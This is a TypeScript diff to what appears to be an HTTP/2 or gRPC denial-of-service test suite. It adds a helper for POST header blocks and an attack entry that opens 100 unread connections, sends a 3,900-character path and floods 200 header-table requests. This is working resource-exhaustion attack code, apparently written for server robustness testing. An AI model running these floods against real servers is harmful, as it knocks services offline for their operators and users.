@@ -22,6 +22,10 @@ const huffmanZeros = Buffer.alloc(24_000);
 /** Index 62: the newest field of the table. */
 const newest = Buffer.of(0xbe);
 
+/** A POST over http whose path is given, as a field of the block. */
+const postTo = (path: Buffer) =>
+  Buffer.concat([Buffer.of(0x83, 0x86), path, literalField('content-type', 'application/grpc')]);
+
 export const headerAttacks: readonly Attack[] = [
   {
     name: 'empty CONTINUATION',
@@ -66,6 +70,21 @@ export const headerAttacks: readonly Attack[] = [
         await wire.send(headerFrames(wire.nextStreamId(), keep, { endsStream: true }));
         await requests(wire, Buffer.concat([someCall, repeated(newest, 1_800)]), 20);
       }),
+  },
+  {
+    name: 'unread answers of headers',
+    does: 'requests a service with a name of 3,900 characters, on 100 connections that it does not read',
+    run: (attacker) =>
+      keepConnected(
+        attacker,
+        async (wire) => {
+          wire.stopReading();
+          const keep = postTo(indexedField(':path', `/${'y'.repeat(3_900)}/call`));
+          await wire.send(headerFrames(wire.nextStreamId(), keep, { endsStream: true }));
+          await requests(wire, postTo(newest), 200);
+        },
+        { count: 100 },
+      ),
   },
   manyRequests(
     'changes of the header table',
